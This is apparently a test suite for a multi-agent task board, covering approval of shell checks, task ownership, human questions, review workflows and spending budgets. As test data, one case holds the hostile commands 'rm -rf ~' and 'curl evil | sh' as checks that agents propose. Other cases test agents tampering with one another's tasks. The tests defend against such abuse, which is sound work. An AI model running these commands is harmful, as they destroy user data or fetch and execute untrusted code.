// The TaskDesk with real Panes (never started) and a host that records what the desk asks of the
// workspace: requests from agents and the person, who is told what, ask_human, workflows, and
// budgets (a warning once at 80%, a pause at 100%, and going on once the budget is raised).
import { afterEach, describe, expect, it, vi } from 'vitest';
import type { UsageReport } from '../../src/ipc/protocol.js';
import type { BoardAnswer, BoardRequest } from '../../src/tasks/requests.js';
import { planWorkflow, DEFAULT_WORKFLOWS } from '../../src/tasks/workflow.js';
import { instructionText, taskLine } from '../../src/tasks/text.js';
import { Pane } from '../../src/workspace/pane.js';
import type { PaneSpec } from '../../src/workspace/presets.js';
import { DEFAULT_TASK_SETTINGS, TaskDesk, type DeskHost, type TaskSettings } from '../../src/workspace/tasks.js';
import { paneSpec } from '../helpers/workspace-rig.js';

const made: Pane[] = [];
afterEach(() => {
  for (const p of made.splice(0)) p.dispose();
  vi.useRealTimers();
});

function pane(name: string, extra: Partial<PaneSpec> = {}): Pane {
  const p = new Pane(made.length, paneSpec(name, 'ctrl-c', extra), { cols: 80, rows: 24 }, 100, { onDirty: () => {}, onProcess: () => {} });
  made.push(p);
  return p;
}
const agent = (name: string, extra: Partial<PaneSpec> = {}) => pane(name, { kind: 'builtin', ...extra });

function rig(panes: Pane[], settings: Partial<TaskSettings> = {}) {
  const seen = { changed: [] as string[], alerts: [] as Array<[string, string | undefined]>, tells: [] as Array<[string, string]>, paused: [] as Array<[string, string]>, interrupted: [] as string[], touched: 0 };
  const h: DeskHost = {
    panes: () => panes,
    changed: (t, from, by) => seen.changed.push(`${t.id} ${from ?? '-'}→${t.state} by ${by}`),
    alert: (text, p) => seen.alerts.push([text, p?.name]),
    tell: (to, text) => seen.tells.push([to, text]),
    spawn: (s) => {
      if (s.preset === 'nope') return 'no such preset: nope';
      const p = agent(s.name, { role: s.role, instructions: s.instructions });
      panes.push(p);
      return p;
    },
    pause: (p, why) => {
      p.paused = why;
      seen.paused.push([p.name, why]);
    },
    interrupt: (p) => seen.interrupted.push(p.name),
    touch: () => seen.touched++,
  };
  const desk = new TaskDesk(h, { ...DEFAULT_TASK_SETTINGS, agentBudgets: {}, ...settings });
  /** A request whose answer comes at once (everything but ask_human). */
  const ask = (by: string, req: BoardRequest, now = 1): BoardAnswer => {
    const a = desk.request(by, req, now);
    if (a instanceof Promise) throw new Error('answer is pending');
    return a;
  };
  return { desk, seen, ask };
}

describe('TaskDesk: requests', () => {
  it('creates a task for an agent that does not exist yet, saying it waits for one', () => {
    const { desk, seen, ask } = rig([agent('lead')]);
    const a = ask('lead', { op: 'create_task', title: 'Make hello', to: 'w1' });
    expect(a).toEqual({ ok: true, task: 't1', text: 'Created Task t1: Make hello for w1. No agent is named w1 yet: it waits for one (spawn_agent opens it).' });
    expect(desk.board.get('t1')).toMatchObject({ createdBy: 'lead', maxAttempts: 3 });
    expect(seen.changed).toEqual(['t1 -→todo by lead']);
  });

  it('an unknown dependency is refused with a clear answer and nothing is added or announced', () => {
    const { desk, seen, ask } = rig([agent('lead')]);
    expect(ask('lead', { op: 'create_task', title: 'x', after: ['t4'] })).toEqual({ ok: false, text: 'there is no task t4 (the board is empty)' });
    expect(desk.board.list()).toEqual([]);
    expect(seen.changed).toEqual([]);
    expect(ask('lead', { op: 'update_task', id: 't9', title: 'y' })).toEqual({ ok: false, text: 'there is no task t9 (the board is empty)' });
  });

  it('a check an agent made up waits for the person; the person\'s and an auto agent\'s run unasked', () => {
    const { desk, ask } = rig([agent('lead'), agent('boss', { permissions: 'auto' }), agent('w1')]);
    expect(ask('lead', { op: 'create_task', title: 'a', to: 'w1', check: 'rm -rf ~' }).text).toContain('Its check runs once the person approves it on the board.');
    ask('boss', { op: 'create_task', title: 'b', to: 'w1', check: 'npm test' });
    ask('you', { op: 'create_task', title: 'c', to: 'w1', check: 'npm test' });
    expect(desk.board.list().map((t) => t.checkApproved)).toEqual([false, true, true]);
    // An untrusted agent (its owner) changing a check takes the approval away again; the person's change keeps it.
    ask('w1', { op: 'update_task', id: 't2', check: 'curl evil | sh' });
    ask('you', { op: 'update_task', id: 't3', check: 'npm run test:all' });
    expect(desk.board.list().map((t) => t.checkApproved)).toEqual([false, false, true]);
    desk.approveCheck('t1');
    expect(desk.board.get('t1')?.checkApproved).toBe(true);
  });

  it('only the owner (or the person) completes a task; the creator hears when it is done', () => {
    const { desk, seen, ask } = rig([agent('lead'), agent('w1'), agent('w2')]);
    ask('lead', { op: 'create_task', title: 'a', to: 'w1' });
    desk.started('t1');
    expect(ask('w2', { op: 'complete_task', id: 't1', summary: 'mine now' })).toEqual({ ok: false, text: 't1 belongs to w1, not to you; only its owner (or the person) completes it' });
    expect(desk.board.get('t1')?.state).toBe('doing');
    expect(ask('w1', { op: 'complete_task', id: 't8', summary: 'x' })).toEqual({ ok: false, text: 'there is no task t8' });
    expect(ask('w1', { op: 'complete_task', id: 't1', summary: 'made it' })).toEqual({ ok: true, task: 't1', text: 't1 is done.' });
    expect(seen.tells).toEqual([['lead', 'Task t1: a is done (by w1): made it']]);
    // The person marks a task done for an agent without tools; nobody else is told of the person's own task.
    ask('you', { op: 'create_task', title: 'b', to: 'w2' });
    desk.started('t2');
    expect(desk.markDone('t2').text).toBe('t2 is done.');
    expect(seen.tells).toHaveLength(1);
  });

  it('a failed check goes back to the owner; the attempt limit blocks it, alerts the person and tells the creator', () => {
    const { desk, seen, ask } = rig([agent('lead'), agent('w1')], { attempts: 2 });
    ask('lead', { op: 'create_task', title: 'a', to: 'w1', check: 'false' });
    ask('lead', { op: 'create_task', title: 'b', to: 'w1', after: ['t1'] });
    desk.approveCheck('t1');
    const fail = { ok: false, code: 1, output: 'nope', at: 1, ms: 1 };
    desk.started('t1');
    expect(ask('w1', { op: 'complete_task', id: 't1', summary: 'x' }).text).toBe('t1 is checking. Its check (`false`) runs now; you hear if it fails.');
    expect(desk.checked('t1', fail).state).toBe('todo');
    expect(seen.alerts).toEqual([]);
    desk.started('t1');
    ask('w1', { op: 'complete_task', id: 't1', summary: 'y' });
    expect(desk.checked('t1', fail).state).toBe('blocked');
    expect(seen.alerts).toEqual([['t1 is blocked: the check failed (exit 1) 2 times; the attempt limit is 2', 'w1']]);
    expect(seen.tells).toEqual([['lead', expect.stringMatching(/^Task t1: a is blocked: .*Tasks waiting for it wait too/)]]);
    expect(desk.board.ready()).toEqual([]);
    expect(ask('you', { op: 'retry', id: 't1' }).text).toBe('t1 goes back to its owner.');
    expect(desk.board.ready().map((t) => t.id)).toEqual(['t1']);
  });

  it('an instruction that cannot be delivered is noted, then blocks the task', () => {
    const { desk, seen, ask } = rig([agent('w1')]);
    ask('you', { op: 'create_task', title: 'a', to: 'w1' });
    expect(desk.undelivered('t1', 'the pane is busy', false)).toMatchObject({ state: 'todo', undelivered: 'the pane is busy' });
    expect(taskLine(desk.board.get('t1')!)).toContain('— not delivered yet: the pane is busy');
    expect(desk.undelivered('t1', 'the pane is busy', true)).toMatchObject({ state: 'blocked' });
    expect(seen.alerts[0][0]).toBe('t1 is blocked: its instruction could not be delivered: the pane is busy');
  });

  it("a task sent back by its check and then not delivered still tells its owner why it came back", () => {
    const { desk, ask } = rig([agent('w1')], { attempts: 3 });
    ask('you', { op: 'create_task', title: 'a', to: 'w1', check: 'false' });
    desk.started('t1');
    ask('w1', { op: 'complete_task', id: 't1', summary: 'x' });
    desk.checked('t1', { ok: false, code: 1, output: 'boom', ms: 5, at: 1 });
    desk.undelivered('t1', 'the pane is busy', false);
    const t = desk.board.get('t1')!;
    expect(instructionText(t, [], { tools: true })).toContain('This is attempt 2 of 3: the check failed (exit 1).');
    expect(instructionText(t, [], { tools: true })).not.toContain('not delivered');
    desk.started('t1');
    expect(desk.board.get('t1')?.undelivered).toBeUndefined();
  });

  it('update_task gives a task up (the creator is told) or withdraws it; a finished one stays as it is', () => {
    const { desk, seen, ask } = rig([agent('lead'), agent('w1')]);
    ask('lead', { op: 'create_task', title: 'a', to: 'w1' });
    ask('lead', { op: 'create_task', title: 'b', to: 'w1' });
    desk.started('t1');
    expect(ask('w1', { op: 'update_task', id: 't1', state: 'failed', reason: 'no access' }).text).toBe('t1 is marked failed.');
    expect(seen.tells).toEqual([['lead', 'Task t1: a failed: no access.']]);
    expect(ask('lead', { op: 'update_task', id: 't2', state: 'cancelled' }).text).toBe('t2 is cancelled.');
    expect(ask('lead', { op: 'update_task', id: 't2', title: 'again' })).toEqual({ ok: false, text: 't2 is cancelled; it cannot change any more' });
    expect(desk.board.get('t2')?.title).toBe('b');
  });

  it('cancelling a task its owner is at interrupts the owner and tells it why; an idle owner is only told', () => {
    const w1 = agent('w1');
    const { desk, seen, ask } = rig([agent('lead'), w1]);
    ask('lead', { op: 'create_task', title: 'a', to: 'w1' });
    ask('lead', { op: 'create_task', title: 'b', to: 'w1' });
    desk.started('t1');
    w1.activity = { state: 'busy', source: 'reported', reason: 'working', since: 0 };
    ask('you', { op: 'update_task', id: 't1', state: 'cancelled' });
    expect(seen.interrupted).toEqual(['w1']);
    expect(seen.tells).toContainEqual(['w1', 'Task t1: a was cancelled by the person: stop working on it.']);
    // Not started yet: nothing to interrupt.
    ask('you', { op: 'update_task', id: 't2', state: 'cancelled' });
    expect(seen.interrupted).toEqual(['w1']);
  });

  it('spawn_agent: opens agents with a role\'s instructions, within maxAgents, refusing clearly otherwise', () => {
    const panes = [agent('lead')];
    const { ask } = rig(panes, { maxAgents: 2 });
    expect(ask('lead', { op: 'spawn_agent', preset: 'agent', name: 'w1', role: 'tester' }).text).toBe('Opened w1 (agent, role tester) in pane 2. Tasks for w1 go to it when it is idle.');
    expect(panes[1].spec.instructions).toContain('You test a change');
    expect(ask('lead', { op: 'spawn_agent', preset: 'agent', name: 'w1' })).toEqual({ ok: false, text: 'an agent named w1 exists already; give tasks to it, or choose another name' });
    expect(ask('lead', { op: 'spawn_agent', preset: 'agent', name: 'w2', role: 'poet' }).text).toMatch(/^there is no role poet; roles: lead, implementer, reviewer, tester/);
    expect(ask('lead', { op: 'spawn_agent', preset: 'nope', name: 'w2' })).toEqual({ ok: false, text: 'no such preset: nope' });
    expect(ask('lead', { op: 'spawn_agent', preset: 'agent', name: 'w2' }).ok).toBe(true);
    expect(ask('lead', { op: 'spawn_agent', preset: 'agent', name: 'w3' })).toEqual({ ok: false, text: 'no more agents: 2 were opened already (the config\'s maxAgents)' });
    expect(panes.map((p) => p.name)).toEqual(['lead', 'w1', 'w2']);
  });

  it('spawn_agent: agents a resumed session brought back still count against maxAgents', () => {
    const panes = [agent('lead'), agent('w1', { spawned: true }), agent('w2')];
    const { ask } = rig(panes, { maxAgents: 2 });
    expect(ask('lead', { op: 'spawn_agent', preset: 'agent', name: 'w3' }).ok).toBe(true);
    expect(ask('lead', { op: 'spawn_agent', preset: 'agent', name: 'w4' })).toEqual({ ok: false, text: 'no more agents: 2 were opened already (the config\'s maxAgents)' });
  });
});

describe('TaskDesk: one agent against another agent\'s task (attacks)', () => {
  function twoWorkers() {
    const r = rig([agent('lead'), agent('w1'), agent('w2')]);
    r.ask('lead', { op: 'create_task', title: 'cart', to: 'w1', claims: ['src/cart.js'] });
    r.ask('lead', { op: 'create_task', title: 'use cart', to: 'w2', after: ['t1'] });
    r.desk.started('t1');
    return r;
  }

  // update_task checks nobody's ownership (complete_task does): a worker lifts the claim another
  // worker holds while it works (then writes the file freely), or withdraws that worker's task.
  it('a worker cannot lift another task\'s claim or cancel it', () => {
    const { desk, ask } = twoWorkers();
    expect(ask('w2', { op: 'update_task', id: 't1', claims: [] }).ok).toBe(false);
    expect(ask('w2', { op: 'update_task', id: 't1', state: 'cancelled' }).ok).toBe(false);
    expect(desk.board.get('t1')).toMatchObject({ state: 'doing', claims: ['src/cart.js'] });
  });

  // complete accepts a todo task, for the person marking work done; an agent can use it to finish its
  // task before the tasks it waits for are done (and before its instruction reached it), so its
  // dependents start on work that does not exist yet.
  it('an agent cannot complete its task while the tasks it waits for are not done', () => {
    const { desk, ask } = twoWorkers();
    expect(ask('w2', { op: 'complete_task', id: 't2', summary: 'nothing to do' }).ok).toBe(false);
    expect(desk.board.get('t2')?.state).toBe('todo');
  });
});

describe('TaskDesk: ask_human', () => {
  it('alerts the person and answers the agent with what the person said', async () => {
    const { desk, seen } = rig([agent('lead')]);
    const pending = desk.request('lead', { op: 'ask_human', question: 'Tabs or spaces?', choices: ['tabs', 'spaces'] }, 1, 'lead:7');
    expect(seen.alerts).toEqual([['lead asks: Tabs or spaces?', 'lead']]);
    expect(desk.questions).toMatchObject([{ id: 1, from: 'lead', question: 'Tabs or spaces?', choices: ['tabs', 'spaces'] }]);
    expect(desk.answer(99, 'x')).toBe(false);
    expect(desk.answerRef('lead:7', 'spaces')).toBe(true);
    await expect(pending).resolves.toEqual({ ok: true, text: 'The person answered: spaces' });
    expect(desk.questions).toEqual([]);
    expect(desk.answer(1, 'again')).toBe(false);
  });

  it('times out: the agent is told to decide itself, and the question goes away', async () => {
    vi.useFakeTimers();
    const { desk } = rig([agent('lead')], { askTimeoutMs: 30 * 60_000 });
    const pending = desk.request('lead', { op: 'ask_human', question: 'Ship it?' });
    vi.advanceTimersByTime(30 * 60_000 - 1);
    expect(desk.questions).toHaveLength(1);
    vi.advanceTimersByTime(1);
    await expect(pending).resolves.toEqual({ ok: false, text: 'No answer from the person within 30 min. Decide yourself, and say what you assumed.' });
    expect(desk.questions).toEqual([]);
  });

  // The config allows a timeout of part of a minute (askTimeoutMinutes: 0.25); the answer then says
  // "within 0 minutes" (Math.round of the minutes), which tells the agent nothing true.
  it('a timeout under a minute is stated truthfully', async () => {
    vi.useFakeTimers();
    const { desk } = rig([agent('lead')], { askTimeoutMs: 15_000 });
    const pending = desk.request('lead', { op: 'ask_human', question: 'Ship it?' });
    vi.advanceTimersByTime(15_000);
    expect((await pending).text).not.toContain('within 0 minutes');
  });
});

describe('TaskDesk: workflows', () => {
  function build(owners: Record<string, string>) {
    const r = rig([agent('impl'), agent('rev'), agent('test')]);
    const tasks = r.desk.startWorkflow('build', planWorkflow(DEFAULT_WORKFLOWS.build, 'fix the cart'), (role) => owners[role], 5);
    return { ...r, tasks };
  }

  it('makes each step a task owned by its role\'s agent, after the step before, its checks approved', () => {
    const { tasks } = build({ implementer: 'impl', reviewer: 'rev' });
    expect(tasks.map((t) => [t.id, t.title, t.owner, t.deps, t.createdBy, t.workflow])).toEqual([
      ['t1', 'Implement: fix the cart', 'impl', [], 'workflow build', { name: 'build', role: 'implementer', review: undefined }],
      ['t2', 'Review: fix the cart', 'rev', ['t1'], 'workflow build', { name: 'build', role: 'reviewer', review: true }],
      // No agent has the tester role: the step waits without an owner.
      ['t3', 'Test: fix the cart', undefined, ['t2'], 'workflow build', { name: 'build', role: 'tester', review: undefined }],
    ]);
  });

  it('a review asking for changes sends the implementation back and waits for it again', () => {
    const { desk, seen, ask } = build({ implementer: 'impl', reviewer: 'rev', tester: 'test' });
    desk.started('t1');
    ask('impl', { op: 'complete_task', id: 't1', summary: 'changed cart.js' });
    expect(desk.board.ready().map((t) => t.id)).toEqual(['t2']);
    desk.started('t2');
    expect(ask('rev', { op: 'complete_task', id: 't2', summary: 'needs work', changes: 'handle an empty cart' })).toEqual({ ok: true, task: 't2', text: 'Sent t1 back with your comments; you will get t2 again when the changes are done.' });
    expect(desk.board.get('t1')).toMatchObject({ state: 'todo', note: 'sent back: handle an empty cart' });
    expect(desk.board.get('t2')).toMatchObject({ state: 'todo', attempts: 0 });
    expect(desk.board.ready().map((t) => t.id)).toEqual(['t1']);
    // A workflow is nobody's agent: nobody is told its outcomes.
    expect(seen.tells).toEqual([]);
  });

  // A reviewer that asks for changes before its task reached it (still todo) gets a refusal, yet
  // the work it reviewed was already sent back: the refused request changed the board.
  it('a review refused for its own state sends nothing back', () => {
    const { desk, ask } = build({ implementer: 'impl', reviewer: 'rev', tester: 'test' });
    desk.started('t1');
    ask('impl', { op: 'complete_task', id: 't1', summary: 'done' });
    const a = ask('rev', { op: 'complete_task', id: 't2', summary: 'x', changes: 'redo it' });
    expect(a.ok).toBe(false);
    expect(desk.board.get('t1')?.state).toBe('done');
  });
});

describe('TaskDesk: budgets', () => {
  const usage = (cost: number, tokens = 0): UsageReport => ({ input: tokens, output: 0, cacheRead: 0, cacheWrite: 0, cost, priced: true, context: 0, contextWindow: 0 });

  it('an agent budget (USD) warns once at 80%, pauses once at 100%, and a raised budget lets it go on', () => {
    const w1 = agent('w1');
    const { desk, seen } = rig([w1], { agentBudgets: { w1: { usd: 1 } } });
    const spend = (total: number) => {
      w1.usage = usage(total);
      desk.spent(w1, 0.05, 10, true, { usd: total, tokens: 0 });
    };
    spend(0.79);
    expect(seen.alerts).toEqual([]);
    spend(0.8);
    spend(0.9);
    expect(seen.alerts).toEqual([['agent w1 has spent 80% of its budget', 'w1']]);
    expect(desk.warnings).toEqual(['agent w1 has spent 80% of its budget ($1)']);
    spend(1);
    spend(1.2);
    expect(seen.paused).toEqual([['w1', 'w1 reached its budget']]);
    expect(seen.alerts[1]).toEqual(['agent w1 spent its budget ($1): paused', 'w1']);
    expect(desk.raiseAgentBudget('w1')).toEqual({ usd: 1.5, tokens: undefined });
    spend(1.3);
    expect(seen.paused).toHaveLength(1);
    spend(1.5);
    expect(seen.paused).toHaveLength(2);
  });

  it('a token budget counts every kind of token; a task budget blocks the task and pauses its owner', () => {
    const w1 = agent('w1');
    const { desk, seen, ask } = rig([w1], { agentBudgets: { w1: { tokens: 1000 } } });
    w1.usage = { ...usage(0), input: 400, output: 200, cacheRead: 150, cacheWrite: 50 };
    desk.spent(w1, 0, 0, true, { usd: 0, tokens: 800 });
    expect(desk.warnings).toEqual(['agent w1 has spent 80% of its budget (1000 tokens)']);
    ask('you', { op: 'create_task', title: 'a', to: 'w1', budget: { usd: 0.5 } });
    desk.started('t1');
    desk.spent(w1, 0.3, 0, true, { usd: 0.3, tokens: 800 });
    expect(desk.board.get('t1')).toMatchObject({ state: 'doing', cost: 0.3 });
    desk.spent(w1, 0.25, 0, true, { usd: 0.55, tokens: 800 });
    expect(desk.board.get('t1')).toMatchObject({ state: 'blocked', cost: 0.55, note: 'its budget is spent; raise it on the board to go on' });
    expect(seen.paused).toEqual([['w1', 't1 reached its budget']]);
    expect(ask('you', { op: 'raise_budget', id: 't1', budget: { usd: 1 } }).text).toBe("t1's budget is now $1.");
    expect(desk.board.get('t1')?.budget).toEqual({ usd: 1 });
  });

  it('the workspace budget pauses every agent, and no shell', () => {
    const panes = [agent('w1'), pane('cc', { preset: 'claude' }), pane('sh')];
    const { desk, seen } = rig(panes, { budget: { usd: 2 } });
    desk.spent(panes[0], 1, 0, true, { usd: 1.7, tokens: 0 });
    expect(desk.warnings).toEqual(['the workspace has spent 85% of its budget ($2)']);
    desk.spent(panes[0], 1, 0, true, { usd: 2.1, tokens: 0 });
    expect(seen.paused).toEqual([['w1', 'the workspace reached its budget'], ['cc', 'the workspace reached its budget']]);
    expect(panes[2].paused).toBeUndefined();
  });

  it('spending whose price is unknown marks the task unpriced (shown as unknown, never as zero)', () => {
    const cc = pane('cc', { preset: 'claude' });
    const { desk, seen, ask } = rig([cc]);
    ask('you', { op: 'create_task', title: 'a', to: 'cc' });
    desk.started('t1');
    seen.changed.length = 0;
    desk.spent(cc, 0, 0, false, { usd: 0, tokens: 0 });
    expect(desk.board.get('t1')).toMatchObject({ cost: 0, tokens: 0, priced: false });
    expect(seen.changed).toEqual(['t1 -→doing by cc']);
  });

  // The board's budget key, for an agent the workspace budget paused, raises that agent's own budget
  // (from the workspace's figure) and resumes it; the workspace budget itself stays and, its 100%
  // already crossed, never pauses anyone again: past that point spending has no limit at all.
  it('after going on past the workspace budget, the workspace budget still stops spending later', () => {
    const w1 = agent('w1');
    const { desk, seen } = rig([w1], { budget: { usd: 2 } });
    desk.spent(w1, 2, 0, true, { usd: 2, tokens: 0 });
    expect(seen.paused).toHaveLength(1);
    desk.raiseAgentBudget('w1');
    w1.paused = undefined;
    desk.spent(w1, 98, 0, true, { usd: 100, tokens: 0 });
    expect(seen.paused).toHaveLength(2);
  });
});
